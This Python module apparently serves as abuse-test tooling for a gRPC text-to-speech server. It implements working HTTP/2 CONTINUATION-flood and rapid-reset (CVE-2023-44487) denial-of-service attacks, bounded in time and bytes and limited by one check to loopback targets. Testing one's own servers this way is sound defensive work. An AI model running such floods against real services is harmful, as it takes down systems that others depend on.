"""Raw HTTP/2 floods for the abuse tests and bench.floods: CONTINUATION and rapid reset.

Built on hyperframe and hpack (the framing under the `h2` package), because a well-behaved
HTTP/2 library refuses to send what these send. Each attack goes to loopback only, is bounded in
frames, bytes and seconds, and stops by itself.
"""

from __future__ import annotations

import ipaddress
import socket
import time
from collections.abc import Iterator
from dataclasses import dataclass

from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    HeadersFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CANCEL = 0x8
SOURCE = "127.0.0.2"
"""The attacks' own loopback address, apart from legitimate callers on 127.0.0.1, so that a
proxy that limits per client address can tell them apart (as it would two hosts)."""
STREAMING = "/voxlite.tts.v1.TextToSpeechService/StreamingSynthesize"


@dataclass
class AttackResult:
    """What one attack sent and how it ended."""

    frames: int = 0
    bytes_sent: int = 0
    seconds: float = 0.0
    closed_by_peer: bool = False
    """The peer closed the connection (or reset it) before the attack's own bounds ran out."""
    goaway: bool = False
    """The peer sent GOAWAY."""
    connections: int = 0


def _loopback(host: str) -> str:
    """Refuse any address but loopback: these floods are for our own servers only."""
    address = ipaddress.ip_address(socket.gethostbyname(host) if host == "localhost" else host)
    if not address.is_loopback:
        raise ValueError(f"refusing to flood {host}: loopback addresses only")
    return str(address)


def _connect(host: str, port: int) -> socket.socket:
    address = _loopback(host)
    source = (SOURCE, 0) if ipaddress.ip_address(address).version == 4 else None
    sock = socket.create_connection((address, port), timeout=5, source_address=source)
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    sock.sendall(PREFACE + SettingsFrame(0).serialize())
    return sock


def _request_headers(encoder: Encoder, host: str, port: int, path: str) -> bytes:
    block: bytes = encoder.encode(
        [
            (":method", "POST"),
            (":scheme", "http"),
            (":path", path),
            (":authority", f"{host}:{port}"),
            ("content-type", "application/grpc"),
            ("te", "trailers"),
        ]
    )
    return block


class _Reader:
    """Reads what the peer sends without blocking the flood: notes GOAWAY and a close."""

    def __init__(self, sock: socket.socket) -> None:
        self._sock = sock
        self._buffer = b""
        self.closed = False
        self.goaway = False

    def poll(self) -> None:
        self._sock.setblocking(False)
        try:
            while True:
                data = self._sock.recv(65536)
                if not data:
                    self.closed = True
                    return
                self._buffer += data
                self._parse()
        except (BlockingIOError, InterruptedError):
            pass
        except OSError:
            self.closed = True
        finally:
            self._sock.setblocking(True)

    def _parse(self) -> None:
        while len(self._buffer) >= 9:
            length = int.from_bytes(self._buffer[:3], "big")
            if len(self._buffer) < 9 + length:
                return
            if self._buffer[3] == 0x7:  # GOAWAY
                self.goaway = True
            self._buffer = self._buffer[9 + length :]


def _send(sock: socket.socket, frames: list[Frame], result: AttackResult) -> bool:
    data = b"".join(f.serialize() for f in frames)
    try:
        sock.sendall(data)
    except OSError:
        return False
    result.frames += len(frames)
    result.bytes_sent += len(data)
    return True


def continuation_flood(
    host: str,
    port: int,
    *,
    seconds: float = 5.0,
    max_bytes: int = 512 * 1024 * 1024,
    frame_size: int = 16384,
    endless_value: bool = False,
) -> AttackResult:
    """HEADERS without END_HEADERS, then CONTINUATION frames that never end the block.

    The block carries a valid request, then one literal header after another (new names, so
    the peer's HPACK table cannot fold them), each small and complete: a peer that keeps what
    it decoded until the block ends grows with every frame. With `endless_value`, one header
    whose value is declared 1 GiB long instead, its bytes sent frame after frame."""
    result = AttackResult(connections=1)
    encoder = Encoder()
    start = time.monotonic()
    sock = _connect(host, port)
    reader = _Reader(sock)
    try:
        first = HeadersFrame(1, _request_headers(encoder, host, port, STREAMING))
        if not _send(sock, [first], result):
            result.closed_by_peer = True
            return result
        counter = 0
        if endless_value:
            # Literal without indexing, name "x-v", value of 2**30 bytes (HPACK integer, 7-bit
            # prefix: 127, then 2**30 - 127 in 7-bit groups).
            length, rest = b"", 2**30 - 127
            while rest >= 128:
                length += bytes([rest % 128 + 128])
                rest //= 128
            head = b"\x00\x03x-v" + b"\x7f" + length + bytes([rest])
            if not _send(sock, [ContinuationFrame(1, head)], result):
                result.closed_by_peer = True
                return result
        while time.monotonic() - start < seconds and result.bytes_sent < max_bytes:
            block = b""
            while endless_value and len(block) < frame_size:
                block += b"v" * frame_size
            while not endless_value and len(block) < frame_size - 64:
                counter += 1
                # Literal without indexing, new name: 0x00, name, value (no Huffman).
                name = f"x-flood-{counter}".encode()
                value = b"v" * 40
                block += b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value
            if not _send(sock, [ContinuationFrame(1, block)] * 4, result):
                result.closed_by_peer = True
                break
            reader.poll()
            if reader.closed:
                result.closed_by_peer = True
                break
        result.goaway = reader.goaway
    finally:
        sock.close()
        result.seconds = time.monotonic() - start
    return result


def rapid_reset(
    host: str,
    port: int,
    *,
    seconds: float = 2.0,
    burst: int = 100,
    max_streams: int = 200_000,
    path: str = STREAMING,
    send_message: bool = True,
) -> AttackResult:
    """Open streams and reset them at once, `burst` at a time, ignoring the peer's stream
    limit (as CVE-2023-44487's attackers did). Each stream carries a request message first
    (`send_message`) so that it gets as far into the server as a real call would. A connection
    the peer closes is replaced, up to the bounds."""
    result = AttackResult()
    start = time.monotonic()
    # A StreamingSynthesizeRequest with an empty config: 0x0a 0x00, in a gRPC frame.
    message = b"\x00" + (2).to_bytes(4, "big") + b"\x0a\x00"
    streams = 0

    def frames_for(stream_id: int, encoder: Encoder) -> Iterator[Frame]:
        headers = HeadersFrame(stream_id, _request_headers(encoder, host, port, path))
        headers.flags.add("END_HEADERS")
        yield headers
        if send_message:
            yield DataFrame(stream_id, message)
        yield RstStreamFrame(stream_id, error_code=CANCEL)

    while time.monotonic() - start < seconds and streams < max_streams:
        try:
            sock = _connect(host, port)
        except OSError:
            break
        result.connections += 1
        reader = _Reader(sock)
        encoder = Encoder()
        stream_id = 1
        _send(sock, [WindowUpdateFrame(0, 1 << 30)], result)
        try:
            while time.monotonic() - start < seconds and streams < max_streams:
                frames: list[Frame] = []
                for _ in range(burst):
                    frames.extend(frames_for(stream_id, encoder))
                    stream_id += 2
                streams += burst
                if not _send(sock, frames, result):
                    result.closed_by_peer = True
                    break
                reader.poll()
                if reader.closed:
                    result.closed_by_peer = True
                    break
                if stream_id > 2**31 - 2 * burst:
                    break
            result.goaway = result.goaway or reader.goaway
        finally:
            sock.close()
    result.seconds = time.monotonic() - start
    return result
